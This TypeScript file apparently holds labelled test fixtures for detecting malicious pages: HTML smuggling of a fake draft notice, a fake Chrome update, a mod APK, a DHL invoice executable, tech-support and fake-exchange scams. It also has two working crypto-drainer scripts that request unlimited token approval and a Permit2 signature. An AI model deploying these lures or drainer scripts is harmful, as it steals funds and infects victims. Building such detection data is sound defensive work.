import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardJs, doc, mark, mobileCss, siteCss, tgRelay } from '../parts/zu-kit.js';
import { apk, beepWav, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, zip } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zu-smuggle-povistka-iso-ua',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://tck-povistka.gov-ua.info/e-povistka/doc.html',
  body: (() => {
    const img = iso('POVISTKA', ['Povistka_TCK_0412.pdf.lnk', 'data.dll']);
    return doc({
      title: 'Електронна повістка ТЦК та СП',
      lang: 'uk',
      css: siteCss('#0057b7'),
      body: `<div class="bar"><div class="in"><span class="logo">Резерв+</span><span>Міністерство оборони України</span></div></div><div class="content"><div class="panel"><h2>Вам надіслано повістку</h2><p>Відповідно до ст. 22 Закону України «Про мобілізаційну підготовку та мобілізацію» вам направлено повістку про виклик до ТЦК та СП. Документ підписано КЕП. Ознайомтеся з документом протягом 24 годин.</p><p><button id="g">Завантажити повістку (PDF)</button></p></div></div>
<script>
document.getElementById("g").addEventListener("click",function(){
  fetch("data:application/octet-stream;base64,${img.toString('base64')}").then(function(r){return r.blob()}).then(function(b){
    var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([b],{type:"application/x-iso9660-image"}));a.download="Povistka_TCK_0412.iso";a.click();
  });
});
</script>`,
    });
  })(),
},
{
  id: 'zu-fake-chrome-update-kz',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://novosti-almaty.kz-news.online/2025/03/tarify-zhkh',
  body: doc({
    title: 'Тарифы ЖКХ в Алматы вырастут с 1 апреля',
    lang: 'ru',
    css: siteCss('#1a3c6e') + '#ov{position:fixed;inset:0;background:#fff;display:flex;align-items:center;justify-content:center;z-index:9}#ov .b{max-width:520px;text-align:center}',
    body: `<div class="bar"><div class="in"><span class="logo">Новости Алматы</span></div></div><div class="content"><article><h1>Тарифы ЖКХ в Алматы вырастут с 1 апреля</h1><p>Департамент комитета по регулированию естественных монополий сообщил о повышении тарифов на тепло и горячую воду...</p></article></div>
<div id="ov"><div class="b"><svg width="64" height="64"><circle cx="32" cy="32" r="30" fill="#4285f4"/><circle cx="32" cy="32" r="12" fill="#fff"/></svg><h2>Не удалось обновить Chrome</h2><p>Ваша версия Google Chrome устарела и не может корректно отобразить эту страницу. Установите последнюю версию.</p><a class="btn" href="/upd/ChromeSetup_128.0.6613.exe">Обновить Chrome</a><p class="muted">Рекомендуемое обновление</p></div></div>`,
  }),
  routes: {
    'novosti-almaty.kz-news.online/upd/ChromeSetup_128.0.6613.exe': fileRoute(pe({ x64: true, strings: ['Google Chrome Installer', 'rundll32.exe', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'https://185.231.xx/gate.php'] }), 'application/octet-stream', 'ChromeSetup_128.0.6613.exe'),
  },
},
{
  id: 'zu-whatsapp-gold-apk-ar',
  label: 'malware',
  kind: 'mod-apk',
  url: 'https://whatsapp-gold-ar.net/download',
  body: doc({
    title: 'تحميل واتساب الذهبي 2025 - آخر إصدار',
    lang: 'ar',
    dir: 'rtl',
    css: siteCss('#c9a227') + 'body{font-family:Tahoma,Arial}',
    body: `<div class="bar"><div class="in"><span class="logo">واتساب الذهبي</span></div></div><div class="content"><h1>تحميل واتساب الذهبي WhatsApp Gold v38.2</h1><p>إخفاء الظهور، قراءة الرسائل المحذوفة، إرسال ملفات حتى 2 جيجا، ثيمات ذهبية حصرية. ضد الحظر 100%.</p><p><a class="btn" href="/dl/WhatsApp_Gold_v38.2.apk">تحميل مباشر APK</a></p><p>عند التثبيت اسمح بكل الأذونات المطلوبة (الرسائل، جهات الاتصال، إمكانية الوصول) لكي تعمل جميع الميزات.</p></div>`,
  }),
  routes: {
    'whatsapp-gold-ar.net/dl/WhatsApp_Gold_v38.2.apk': fileRoute(apk('com.whatsgold.plus', 'WhatsApp Gold', ['android.permission.READ_SMS', 'android.permission.BIND_ACCESSIBILITY_SERVICE', 'android.permission.READ_CONTACTS', 'android.permission.RECORD_AUDIO']), 'application/vnd.android.package-archive', 'WhatsApp_Gold_v38.2.apk'),
  },
},
{
  id: 'zu-dhl-invoice-exe-chain-eg',
  label: 'malware',
  kind: 'malware-redirect-download',
  url: 'https://bit-ly.eg-short.com/DHLinv77',
  routes: {
    'bit-ly.eg-short.com/DHLinv77': redirectRoute(301, 'https://dhl-eg-invoice.com/docs/?id=77120'),
    'dhl-eg-invoice.com/docs/': htmlRoute(doc({
      title: 'DHL Express - Commercial Invoice',
      css: siteCss('#d40511') + '.bar{background:#ffcc00}.bar .logo{color:#d40511}',
      body: `<div class="bar"><div class="in"><span class="logo">DHL</span></div></div><div class="content"><div class="panel"><h2>Commercial Invoice #77120</h2><p>Your shipment from Shenzhen to Cairo requires customs clearance. Please review the attached invoice and confirm within 48 hours.</p><p>Your download will start in <b id="s">3</b> seconds.</p></div></div>
<script>var s=3,t=setInterval(function(){s--;document.getElementById("s").textContent=s;if(s<=0){clearInterval(t);location.href="/docs/DHL_Invoice_77120.zip"}},1000);</script>`,
    })),
    'dhl-eg-invoice.com/docs/DHL_Invoice_77120.zip': fileRoute(zip([{ name: 'DHL_Invoice_77120.pdf.exe', data: pe({ strings: ['AgentTesla', 'smtp.yandex.com', 'Mozilla\\Firefox\\Profiles', 'GetClipboardData'] }) }]), 'application/zip', 'DHL_Invoice_77120.zip'),
  },
},
{
  id: 'zu-drainer-usdt-trc20-approve',
  label: 'cryptodrainer',
  kind: 'tron-drainer',
  url: 'https://usdt-trc20-bonus.com/claim',
  body: doc({
    title: 'Tether USDT TRC20 — Holder Reward',
    css: 'body{font-family:Arial;background:linear-gradient(#0c1b2a,#12324a);color:#fff;margin:0}.w{max-width:520px;margin:60px auto;background:#fff1;padding:30px;border-radius:14px;text-align:center}.b{background:#26a17b;color:#fff;border:0;border-radius:8px;padding:14px 26px;font-size:16px}',
    body: `<div class="w"><h1>USDT Holder Reward</h1><p>Tether distributes 12% of Q1 revenue to TRC20 holders. Connect TronLink or Trust Wallet to receive your share.</p><button class="b" id="r">Receive Reward</button><p id="m"></p></div>
<script>
var SPENDER="TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE",USDT="TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t";
document.getElementById("r").onclick=async function(){
  if(!window.tronWeb||!window.tronLink){document.getElementById("m").textContent="Open this page in TronLink / Trust Wallet browser";return}
  await window.tronLink.request({method:"tron_requestAccounts"});
  var c=await tronWeb.contract().at(USDT);
  await c.approve(SPENDER,"115792089237316195423570985008687907853269984665640564039457584007913129639935").send({feeLimit:100000000});
  fetch("/api/notify.php",{method:"POST",body:JSON.stringify({owner:tronWeb.defaultAddress.base58})});
  document.getElementById("m").textContent="Reward scheduled. It will arrive within 24h.";
};
</script>`,
  }),
},
{
  id: 'zu-drainer-permit2-airdrop-uk',
  label: 'cryptodrainer',
  kind: 'evm-drainer',
  url: 'https://arbitrum-foundation.claims-ua.com/',
  body: doc({
    title: 'Arbitrum Ecosystem Airdrop',
    lang: 'uk',
    css: 'body{background:#0b1624;color:#fff;font-family:Arial;text-align:center}.c{max-width:500px;margin:70px auto}.b{background:#28a0f0;color:#fff;border:0;padding:14px 34px;border-radius:10px;font-size:16px}',
    body: `<div class="c"><h1>Arbitrum DAO: третя хвиля аірдропу</h1><p>Підключіть гаманець, щоб перевірити право на отримання ARB.</p><button class="b" id="go">Підключити гаманець</button><p id="o"></p></div>
<script>
var P2="0x000000000022D473030F116dDEE9F6B43aC78BA3",TO="0x7a3B1f6E0cA0cF1b9E8b3dC24a1e6F0e55d2C9b1";
document.getElementById("go").onclick=async function(){
  var eth=window.ethereum;if(!eth){document.getElementById("o").textContent="Встановіть MetaMask";return}
  var [a]=await eth.request({method:"eth_requestAccounts"});
  var r=await fetch("/api/assets?wallet="+a);var tokens=await r.json();
  var msg={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},primaryType:"PermitBatch",domain:{name:"Permit2",chainId:42161,verifyingContract:P2},message:{details:tokens.map(function(t){return{token:t.address,amount:"1461501637330902918203684832716283019655932542975",expiration:"1767225600",nonce:"0"}}),spender:TO,sigDeadline:"1767225600"}};
  var sig=await eth.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(msg)]});
  await fetch("/api/claim",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({a:a,sig:sig,msg:msg})});
  document.getElementById("o").textContent="Перевірку завершено.";
};
</script>`,
  }),
  routes: { 'arbitrum-foundation.claims-ua.com/api/assets': jsonRoute([{ address: '0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9' }, { address: '0x912CE59144191C1204E64559FE8253a0e49E6548' }]) },
},
{
  id: 'zu-fake-exchange-kz-usdt',
  label: 'scam',
  kind: 'fake-exchange',
  url: 'https://bitkazex.com/ru/deposit',
  body: doc({
    title: 'BitKazEx — Криптобиржа №1 в Казахстане',
    lang: 'ru',
    css: siteCss('#0f9d58') + 'body{background:#0d1117;color:#ddd}.panel{border-color:#333}.addr{font-family:monospace;background:#222;padding:10px;word-break:break-all}',
    body: `<div class="bar"><div class="in"><span class="logo">BitKazEx</span><span>Баланс: <b>18 420.55 USDT</b></span></div></div><div class="content"><div class="grid"><div class="panel"><h2>Вывод средств заблокирован</h2><p>Для вывода 18 420.55 USDT на карту Kaspi необходимо оплатить налог на прибыль (10%) и верификацию AML: <b>1 842 USDT</b>. После оплаты вывод происходит в течение 15 минут.</p><p>Адрес для пополнения (TRC20):</p><div class="addr">TXk3aW9p8V2nHsQy4RzZb6mFjYc1dPe7Lu</div><p>Менеджер: <a href="https://t.me/bitkazex_support">@bitkazex_support</a></p></div><div class="panel"><h3>Лицензия</h3><p>Лицензия AFSA № 2024-118 (МФЦА)<br>Регулятор: Национальный банк РК</p><p>Сегодня выведено: 4 912 пользователями</p></div></div></div>`,
  }),
},
{
  id: 'zu-techsupport-microsoft-pl',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://ms-ochrona-windows.com/pl/alert/0x800CCE2/',
  body: doc({
    title: 'Zabezpieczenia Windows — ostrzeżenie',
    lang: 'pl',
    css: 'body{margin:0;background:#0078d7;color:#fff;font-family:"Segoe UI",Arial}.w{max-width:760px;margin:60px auto;padding:20px}.p{font-size:30px;font-weight:700;background:#fff;color:#c00;padding:14px;text-align:center;border-radius:4px}.box{background:#fff;color:#222;padding:20px;margin-top:20px}',
    body: `<div class="w"><h1>Ostrzeżenie o zabezpieczeniach systemu Windows</h1><p>Dostęp do tego komputera został zablokowany ze względów bezpieczeństwa. Wykryto oprogramowanie szpiegujące Trojan.Spyware.Gen, które wykrada hasła do bankowości i Facebooka.</p>
<div class="p">Zadzwoń do pomocy technicznej Microsoft: +48 22 307 14 92</div>
<div class="box"><b>Kod błędu: 0x800CCE2</b><br>Nie zamykaj tego okna. Zamknięcie strony spowoduje wyłączenie dostępu do komputera w celu ochrony danych.</div></div>
<audio id="a" src="/pl/alert/beep.wav" autoplay loop></audio>
<script>
document.addEventListener("click",function(){document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen();document.getElementById("a").play()});
history.pushState(null,"",location.href);window.onpopstate=function(){history.pushState(null,"",location.href)};
window.onbeforeunload=function(){return "Komputer zablokowany"};
setInterval(function(){alert("BŁĄD 0x800CCE2: Zadzwoń +48 22 307 14 92")},15000);
</script>`,
  }),
  routes: { 'ms-ochrona-windows.com/pl/alert/0x800CCE2/beep.wav': fileRoute(beepWav(2, 900), 'audio/wav'), 'ms-ochrona-windows.com/pl/alert/beep.wav': fileRoute(beepWav(2, 900), 'audio/wav') },
},
{
  id: 'zu-techsupport-apple-fr-ma',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://apple-icloud-securite.support-fr.live/',
  body: doc({
    title: 'Alerte de sécurité Apple',
    lang: 'fr',
    css: 'body{font-family:-apple-system,Arial;background:#f2f2f7;margin:0}.m{max-width:420px;margin:50px auto;background:#fff;border-radius:14px;padding:26px;text-align:center;box-shadow:0 4px 20px #0002}.t{font-size:26px;color:#d70015;font-weight:700}',
    body: `<div class="m"><div style="font-size:50px"></div><h2>Votre iPhone est infecté</h2><p>Nous avons détecté que votre iPhone est infecté par (13) virus ! Vos photos, contacts et données bancaires sont en danger.</p><div class="t">Appelez le support Apple : +212 5 20 48 31 07</div><p>Ne redémarrez pas votre appareil. Un technicien agréé vous guidera pour supprimer les virus.</p><p class="muted">Temps restant : <b id="c">04:59</b></p></div>
<script>var s=299;setInterval(function(){s=Math.max(0,s-1);document.getElementById("c").textContent="0"+Math.floor(s/60)+":"+("0"+s%60).slice(-2)},1000);if(navigator.vibrate)navigator.vibrate([500,200,500]);</script>`,
  }),
},
];
